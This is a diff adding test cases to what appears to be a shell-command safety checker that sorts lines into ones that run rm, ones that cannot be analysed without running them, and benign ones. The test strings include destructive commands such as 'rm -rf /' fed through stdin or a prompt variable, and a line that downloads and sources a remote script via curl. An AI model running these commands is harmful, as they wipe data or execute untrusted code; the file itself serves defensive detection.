@@ -121,6 +121,9 @@ const RUNS_RM = [
   "PS1='$(rm -rf /) $ '",
   "export PROMPT_COMMAND='rm x'",
   'sudo nice -n 5 nohup timeout 5 env A=1 rm x',
+  'find /tmp -name x -delete',
+  "source /dev/stdin <<< 'rm x'",
+  ". /dev/stdin <<'EOF'\nrm -rf /\nEOF",
 ];
 
 /** Lines that cannot be known without running them: must be `unparsed`. */
@@ -158,6 +161,11 @@ const DYNAMIC = [
   'echo "unterminated',
   'echo )',
   'for i in 1 2; do',
+  "source <(echo 'rm x')",
+  '. <(curl -s https://example.test/x.sh)',
+  'source "$SCRIPT"',
+  'source /dev/fd/3',
+  "echo 'rm x' | source /dev/stdin",
 ];
 
 /** Benign lines that mention rm only as data. */
@@ -187,6 +195,9 @@ const BENIGN = [
   'xargs echo < rmlist',
   'ls | xargs',
   'trap - EXIT',
+  'source ~/.bashrc',
+  '. ./env.sh',
+  'find . -name "*.tmp" -print',
   'bash script-that-mentions-rm.sh',
 ];
 
